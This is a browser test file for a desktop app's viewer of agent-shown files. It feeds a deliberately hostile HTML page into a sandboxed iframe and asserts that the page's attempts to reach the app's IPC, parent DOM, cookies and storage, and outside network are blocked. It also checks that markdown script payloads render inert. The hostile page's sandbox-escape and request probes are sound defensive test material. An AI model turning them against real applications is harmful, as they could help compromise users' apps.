// The Shown view (ui/src/viewer.ts) as built (ui/dist), in Debian's Chromium via playwright-core,
// the fake app behind the Tauri IPC answering shown/list and shown/read. A hostile HTML page is
// shown, and everything it tries is watched from outside: a loopback server records every request
// that reaches it, the fake app records every IPC call, and the app's own page is compared before
// and after. The app serves a shown page from its `shown` protocol with the page's own CSP
// (src-tauri/src/shown_page.rs); here a loopback server stands in for that protocol, with the same
// headers and the same first tag, and the window's CSP as shipped names it in place of `shown:`.
import { test, before, after, beforeEach, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fakeBackend, launchChromium, root, serveDist, shippedCsp as shipped } from './browser.mjs';

// The page's own policy, as the app's protocol sends it.
const pageCsp = (await readFile(join(root, 'src-tauri/src/shown_page.rs'), 'utf8')).match(/PAGE_CSP: &str = "([^"]+)"/)[1];

let server, recorder, frames, browser, base, page, errors, hits, trap, csp, frameBase;
// What the stand-in for the `shown` protocol serves, by id.
const pages = new Map();

before(async () => {
  ({ server, base } = await serveDist(() => csp));
  // The loopback port a hostile page aims at: it records whatever reaches it, WebSocket upgrades too.
  recorder = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('reached');
  });
  recorder.on('upgrade', (req, socket) => { hits.push(`UPGRADE ${req.url}`); socket.destroy(); });
  await new Promise((done) => recorder.listen(0, '127.0.0.1', done));
  trap = `127.0.0.1:${recorder.address().port}`;
  frames = createServer((req, res) => {
    const text = pages.get(decodeURIComponent(new URL(req.url, 'http://x').pathname.slice(1)));
    if (text === undefined) return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': pageCsp, 'x-content-type-options': 'nosniff' });
    res.end(`<meta http-equiv="Content-Security-Policy" content="${pageCsp}">${text}`);
  });
  await new Promise((done) => frames.listen(0, '127.0.0.1', done));
  frameBase = `http://127.0.0.1:${frames.address().port}/`;
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  server?.close();
  recorder?.close();
  frames?.close();
});

/** The window's CSP as shipped, the stand-in server in place of the `shown` protocol. */
const asShipped = () => shipped.replaceAll('shown: http://shown.localhost', frameBase.slice(0, -1));

beforeEach(() => {
  csp = asShipped();
  hits = [];
  errors = [];
});

afterEach(async () => {
  await page?.close();
  page = null;
});

async function load() {
  page = await browser.newPage();
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  page.on('pageerror', (e) => errors.push(String(e)));
  // Init scripts run in every frame: the fake app is the window's only, never the shown page's.
  await page.addInitScript(`if (window === window.top) {${fakeBackend}}`);
  await page.addInitScript((base) => { if (window === window.top) window.__fake.frameBase = base; }, frameBase);
  await page.addInitScript(() => {
    if (window !== window.top) return;
    window.__files = new Map();
    window.__fake.control['shown/list'] = () => [...window.__files.values()].map((f) => f.file).reverse();
    window.__fake.control['shown/read'] = ({ id }) => {
      const kept = window.__files.get(id);
      return kept ? kept : Promise.reject({ code: 'refused', message: `No shown file ${id} is kept.` });
    };
  });
  await page.goto(base);
  await page.waitForSelector('#status-line');
}

/** Shows a file as the runtime would: kept for shown/read, then the `shown` event pushed; the
 * person then opens the Shown view from its tab, which the file marked (it never takes the view). */
async function show(id, path, kind, text, extra = {}) {
  if (kind === 'html') pages.set(id, text);
  const onShown = await page.getAttribute('#nav-shown', 'aria-pressed') === 'true';
  await page.evaluate(({ id, path, kind, text, extra }) => {
    const file = { id, session_id: 'ses_1', path, kind, size: text.length, shown_ms: Date.now(), ...extra };
    window.__files.set(id, { file, text });
    window.__fake.emit('control-push', { method: 'event', params: { kind: 'shown', session_id: 'ses_1', id, path, file_kind: kind, size: text.length, ...extra } });
  }, { id, path, kind, text, extra });
  if (onShown) return;
  await page.waitForSelector('#nav-shown .badge');
  assert.equal(await page.getAttribute('#nav-home', 'aria-pressed'), 'true', 'the view stays where it was');
  assert.equal(await page.getAttribute('#nav-shown', 'aria-label'), 'Shown, something new');
  await page.click('#nav-shown');
  assert.equal(await page.locator('#nav-shown .badge').count(), 0, 'seen: the mark is gone');
}

const ipcCalls = () => page.evaluate(() => JSON.stringify(window.__fake.calls));
const outsideTheFrame = () => page.evaluate(() => document.documentElement.outerHTML);

function hostile() {
  const at = `http://${trap}`;
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="6.5;url=${at}/meta-refresh">
<link rel="stylesheet" href="${at}/link.css"><link rel="prefetch" href="${at}/prefetch">
</head><body bgcolor="#00c000">
<h1>A hostile page</h1>
<img src="${at}/img.png"><img src="x" onerror="fetch('${at}/onerror')">
<form id="f" action="${at}/form" method="post" target="_top"><input name="a" value="1"></form>
<pre id="results">{}</pre>
<script>
const out = {};
const note = (k, v) => { out[k] = v; document.getElementById('results').textContent = JSON.stringify(out); };
const tryIt = (k, f) => { try { note(k, f()); } catch (e) { note(k, 'threw ' + e.name); } };
document.body.bgColor = '#c000c0';
note('ran', true);
tryIt('internals', () => typeof window.__TAURI_INTERNALS__);
tryIt('tauri', () => typeof window.__TAURI__);
tryIt('ipc', () => typeof window.ipc);
tryIt('parentInternals', () => typeof parent.__TAURI_INTERNALS__);
tryIt('parentInvoke', () => { parent.__TAURI_INTERNALS__.invoke('control_call', { method: 'remote/stop', params: {} }); return 'called'; });
tryIt('parentFake', () => { parent.__fake.calls.push({ cmd: 'from-the-frame' }); return 'pushed'; });
tryIt('parentDom', () => { parent.document.body.append('owned'); return 'changed'; });
tryIt('webkitIpc', () => { window.webkit.messageHandlers.ipc.postMessage('{"cmd":"control_call"}'); return 'posted'; });
tryIt('postMessage', () => { parent.postMessage({ cmd: 'control_call', method: 'remote/stop' }, '*'); top.postMessage('x', '*'); return 'sent'; });
tryIt('cookie', () => { document.cookie = 'a=1'; return document.cookie; });
tryIt('storage', () => { localStorage.setItem('a', '1'); return 'set'; });
tryIt('top', () => { top.location.href = '${at}/top'; return 'assigned'; });
tryIt('open', () => { const w = window.open('${at}/open'); return w === null ? 'null' : 'window'; });
tryIt('form', () => { document.getElementById('f').submit(); return 'submitted'; });
tryIt('beacon', () => navigator.sendBeacon('${at}/beacon', 'x'));
tryIt('image', () => { new Image().src = '${at}/script-img'; return 'set'; });
tryIt('ws', () => { const ws = new WebSocket('ws://${trap}/ws'); ws.onopen = () => note('ws', 'open'); ws.onerror = () => note('ws', 'error'); return 'made'; });
fetch('${at}/fetch').then(() => note('fetch', 'reached'), (e) => note('fetch', 'failed ' + e.name));
fetch('ipc://localhost/control_call', { method: 'POST', body: '{}' }).then(() => note('ipcFetch', 'reached'), (e) => note('ipcFetch', 'failed ' + e.name));
fetch('http://ipc.localhost/control_call', { method: 'POST', body: '{}' }).then(() => note('ipcHttp', 'reached'), (e) => note('ipcHttp', 'failed ' + e.name));
tryIt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${at}/xhr'); x.onerror = () => note('xhr', 'error'); x.onload = () => note('xhr', 'reached'); x.send(); return 'sent'; });
setTimeout(() => { location.href = '${at}/self'; }, 6000);
</script></body></html>`;
}

/** Shows the hostile page, lets it try for 8 s; what the frame recorded, if its scripts ran. */
async function showHostile(reaching = []) {
  await load();
  await show('s-h', 'hostile.html', 'html', hostile());
  await page.waitForSelector('#shown-frame');
  const frame = page.locator('#shown-frame');
  assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
  // Framed as the agent's, so it cannot pass for one of the app's own cards.
  assert.match(await page.textContent('figure.agent-page > #shown-warning'), /^A page the agent showed, not part of LLeMbas Desktop: untrusted\./);
  assert.equal(await page.locator('figure.agent-page > #shown-frame').count(), 1);
  const url = page.url();
  const calls = await ipcCalls();
  const dom = await outsideTheFrame();
  // Read before the page's own navigations (6 s and 6.5 s): every probe noted, or 5 s passed.
  const child = page.frames().find((f) => f !== page.mainFrame());
  const read = () => child.evaluate(() => ({
    results: document.getElementById('results')?.textContent ?? null,
    bgcolor: document.body?.getAttribute('bgcolor') ?? null,
  })).catch((e) => ({ error: String(e) }));
  const started = Date.now();
  let recorded = child ? await read() : null;
  while (child && Date.now() - started < 5000 && !['ws', 'xhr', 'fetch', 'ipcFetch', 'ipcHttp'].every((k) => recorded?.results?.includes(`"${k}"`))) {
    await page.waitForTimeout(100);
    recorded = await read();
  }
  await page.waitForTimeout(8000 - (Date.now() - started));
  assert.deepEqual(hits, reaching, 'what reached the loopback port');
  assert.equal(await ipcCalls(), calls, 'no IPC call came from the frame');
  assert.equal(page.url(), url, 'the app stayed where it was');
  assert.equal(await outsideTheFrame(), dom, 'the DOM outside the frame is unchanged');
  assert.equal(browser.contexts().flatMap((c) => c.pages()).length, 1, 'no popup opened');
  assert.deepEqual(await page.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length]), ['', 0, 0]);
  return recorded;
}

test('a shown HTML page under the window\'s CSP as shipped: its scripts run in the sandbox and reach nothing', async () => {
  assert.match(shipped, /frame-src shown: http:\/\/shown.localhost;/);
  assert.match(shipped, /child-src shown: http:\/\/shown.localhost;/);
  assert.match(shipped, /script-src 'self';/, 'the window itself runs no inline script');
  const recorded = await showHostile();
  assert.equal(recorded?.bgcolor, '#c000c0', 'the frame\'s scripts ran');
  const got = JSON.parse(recorded.results);
  assert.equal(got.ran, true);
  assert.equal(got.internals, 'undefined');
  assert.equal(got.tauri, 'undefined');
  assert.equal(got.ipc, 'undefined');
  assert.equal(got.parentInternals, 'threw SecurityError', 'an opaque origin cannot read the app');
  assert.equal(got.parentInvoke, 'threw SecurityError');
  assert.equal(got.parentFake, 'threw SecurityError');
  assert.equal(got.parentDom, 'threw SecurityError');
  assert.match(got.webkitIpc, /^threw/);
  assert.equal(got.postMessage, 'sent', 'a message can be posted, and nothing in the app listens');
  assert.equal(got.cookie, 'threw SecurityError');
  assert.equal(got.storage, 'threw SecurityError');
  assert.match(got.top, /^threw|assigned/); // Chromium blocks it without a throw: the URL check below
  assert.equal(got.open, 'null', 'no popups');
  assert.equal(got.form, 'submitted', 'submit() is called, and the sandbox drops it (no allow-forms)');
  assert.match(got.fetch, /^failed/);
  assert.match(got.ipcFetch, /^failed/);
  assert.match(got.ipcHttp, /^failed/);
  for (const refused of ['beacon', 'ws', 'xhr', 'image']) assert.ok(refused in got, `${refused} was tried`);
});

test('without the window\'s frame-src the frame could navigate itself out: why the CSP carries it', async () => {
  csp = '';
  const recorded = await showHostile(['GET /self']);
  assert.equal(recorded?.bgcolor, '#c000c0');
});

test('markdown with a script and an onerror handler renders inert', async () => {
  await load();
  const text = '# Notes\n\n<script>window.__mdRan = 1</script>\n\n<img src="x" onerror="window.__mdRan = 2">\n\n[a link](javascript:window.__mdRan=3) and **bold**\n';
  await show('s-md', 'notes.md', 'markdown', text);
  await page.waitForSelector('#shown-markdown h1');
  assert.equal(await page.textContent('#shown-markdown h1'), 'Notes');
  assert.equal(await page.textContent('#shown-markdown strong'), 'bold');
  const inside = await page.evaluate(() => {
    const md = document.getElementById('shown-markdown');
    return {
      scripts: md.querySelectorAll('script').length,
      handlers: [...md.querySelectorAll('*')].filter((n) => [...n.attributes].some((a) => a.name.startsWith('on'))).length,
      href: md.querySelector('a')?.getAttribute('href') ?? null,
    };
  });
  assert.deepEqual(inside, { scripts: 0, handlers: 0, href: null });
  const url = page.url();
  await page.click('#shown-markdown a');
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__mdRan), undefined, 'nothing of it ran');
  assert.equal(page.url(), url);
  // Chromium reports the window's CSP refusing the handler even while the sanitizer parses the
  // markup in its inert document (nothing runs there); the image itself is a 404 of the test server.
  const expected = /^(Executing inline event handler violates|Failed to load resource: the server responded with a status of 404)/;
  assert.ok(errors.every((e) => expected.test(e)), errors.join('\n'));
});

test('code is highlighted with its line marked, text stays text, and the list is by session, newest first', async () => {
  await load();
  const rust = 'fn main() {\n    let x = "<b>not bold</b>";\n}\n';
  await show('s-rs', 'src/main.rs', 'code', rust, { language: 'rust', line: 2 });
  await page.waitForSelector('#shown-code');
  assert.equal(await page.getAttribute('#nav-shown', 'aria-pressed'), 'true');
  assert.ok(await page.locator('#shown-code .hljs-keyword').count() > 0, 'highlighted');
  assert.equal(await page.locator('#shown-code b').count(), 0, 'the code\'s markup is text');
  assert.equal(await page.getAttribute('#shown-line-2', 'class'), 'marked');
  await show('s-txt', 'log.txt', 'text', '<i>plain</i>\n');
  await page.waitForFunction(() => document.getElementById('shown-path')?.textContent === 'log.txt');
  assert.equal(await page.textContent('#shown-code pre.code'), '<i>plain</i>\n');
  await page.click('#nav-settings');
  await page.click('#nav-shown');
  await page.waitForSelector('.shown-file[data-id="s-txt"]');
  const listed = await page.$$eval('.shown-session', (groups) => groups.map((g) => [g.dataset.session, [...g.querySelectorAll('.shown-file')].map((b) => b.dataset.id)]));
  assert.deepEqual(listed, [['ses_1', ['s-txt', 's-rs']]]);
  await page.click('.shown-file[data-id="s-rs"]');
  await page.waitForFunction(() => document.getElementById('shown-path')?.textContent === 'src/main.rs');
  assert.deepEqual(errors, []);
});

test('a file no longer kept says so', async () => {
  await load();
  await page.evaluate(() => window.__fake.emit('control-push', { method: 'event', params: { kind: 'shown', session_id: 'ses_1', id: 'gone', path: 'a.md', file_kind: 'markdown', size: 1 } }));
  await page.waitForSelector('#nav-shown .badge');
  await page.click('#nav-shown');
  await page.waitForSelector('#shown-error');
  assert.match(await page.textContent('#shown-error'), /No shown file gone is kept/);
});
